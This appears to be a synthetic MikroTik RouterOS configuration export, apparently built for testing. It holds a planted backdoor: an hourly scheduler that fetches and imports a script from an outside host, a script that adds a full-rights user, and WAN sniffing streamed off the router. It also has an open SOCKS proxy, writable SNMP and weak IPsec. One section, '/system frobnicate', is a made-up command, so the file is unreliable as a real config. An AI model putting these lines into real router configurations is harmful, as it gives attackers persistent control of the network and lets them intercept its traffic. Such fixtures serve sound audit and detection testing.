# 2026-10-16 03:12:44 by RouterOS 7.12.1
# software id = SYNT-HET1
#
# model = CCR2004-16G-2S+
# serial number = SYN0000000A1
/interface bridge
add name=lo0
add comment="customers, synthetic" name=bridge1
/interface ethernet
set [ find default-name=ether1 ] comment=uplink name=wan
set [ find default-name=ether9 ] disabled=yes
/interface wireguard
add listen-port=13231 mtu=1420 name=wg-dark private-key="SyntheticWgPrivateKey0000000000000000000000="
/interface gre
add !keepalive ipsec-secret="Synthetic Gre Secret" local-address=203.0.113.2 \
    name=gre-lab remote-address=192.0.2.99
/interface eoip
add disabled=yes name=eoip1 remote-address=198.51.100.9 tunnel-id=1
/interface ethernet switch
set 0 mirror-source=ether2 mirror-target=ether9
/interface wireguard peers
add allowed-address=0.0.0.0/0 endpoint-address=198.51.100.200 endpoint-port=51820 interface=wg-dark \
    public-key="SyntheticPublicKey="
/ip ipsec profile
set [ find default=yes ] dh-group=modp1024 enc-algorithm=3des hash-algorithm=md5
/ip ipsec peer
add address=198.51.100.201/32 exchange-mode=aggressive name=hub
/ip ipsec proposal
set [ find default=yes ] auth-algorithms=sha1 enc-algorithms=aes-128-cbc,null pfs-group=none
/ip vrf
add interfaces=vlan10 name=blue
/snmp community
set [ find default=yes ] addresses=10.20.0.0/24 name=Synthetic-Community write-access=yes
add addresses=::/0 authentication-password=Synthetic-Snmp-Auth authentication-protocol=SHA1 \
    encryption-password=Synthetic-Snmp-Priv encryption-protocol=AES name=v3 security=private
/system logging action
set 3 remote=10.20.0.70 remote-port=1514
add name=out remote=198.51.100.71 target=remote
/user group
add name=noc policy=ssh,read,winbox,!local,!telnet
/ip address
add address=203.0.113.2/30 interface=wan network=203.0.113.0
add address=198.51.100.1/32 interface=lo0
add address=10.40.0.1/24 interface=vlan10
add address=10.41.0.1/24 disabled=yes interface=vlan10
/ip dns
set allow-remote-requests=yes servers=192.0.2.53
/ip firewall address-list
add address=10.20.0.0/24 list=managers
add address=203.0.113.64/26 list=managers
/ip firewall filter
add action=accept chain=input connection-state=established,related
add action=accept chain=input dst-port=22 protocol=tcp src-address-list=managers
add action=accept chain=input disabled=yes
add action=drop chain=input in-interface=wan log=yes
add action=accept chain=forward
/ip firewall mangle
add action=sniff-tzsp chain=prerouting sniff-target=192.0.2.44 sniff-target-port=37008 src-address=10.40.0.7
/ip firewall nat
add action=masquerade chain=srcnat out-interface=wan
/ip route
add dst-address=0.0.0.0/0 gateway=203.0.113.1
add dst-address=10.60.0.0/16 gateway=gre-lab routing-table=blue
/ip service
set telnet disabled=yes
set ftp disabled=no
set www port=18080
set ssh address=10.20.0.0/24 disabled=no port=2222
set www-ssl disabled=no tls-version=only-1.2
/ip socks
set enabled=yes port=4145
/ip ssh
set forwarding-enabled=remote strong-crypto=no
/ip traffic-flow target
add dst-address=10.20.0.50 port=2055
/ppp secret
add name=dial-user password=Synthetic-Ppp-Pw service=l2tp
/radius
add address=10.20.0.61 secret=Synthetic-Rad-Key service=login
/routing bgp connection
add as=64500 name=up remote.address=203.0.113.1 .as=64501 tcp-md5-key=Synthetic-Bgp-Key
/routing rule
add action=lookup src-address=10.40.0.0/24 table=blue
/snmp
set enabled=yes trap-community=Synthetic-Trap trap-target=10.20.0.40 trap-version=2
/system clock
set time-zone-name=UTC
/system frobnicate
set enabled=yes
/system identity
set name=mt-synthetic-01
/system ntp client servers
add address=192.0.2.123
/system scheduler
add interval=1h name=beacon on-event="/tool fetch url=\"https://198.51.100.80/a\?token=Synthetic-Token\" mo\
    de=https dst-path=a.rsc\r\
    \n/import a.rsc" policy=read,write,test start-time=startup
/system script
add dont-require-permissions=yes name=up source=":log info \"up\"\r\
    \n/user add name=back group=full password=Synthetic-Script-Pw"
/tool sniffer
set filter-interface=wan streaming-enabled=yes streaming-server=198.51.100.44
/user
add address=10.20.0.0/24 group=full name=n.adeyemi
add group=noc name=helper password="Synthetic-User-Pw \"x\""
/user aaa
set use-radius=yes
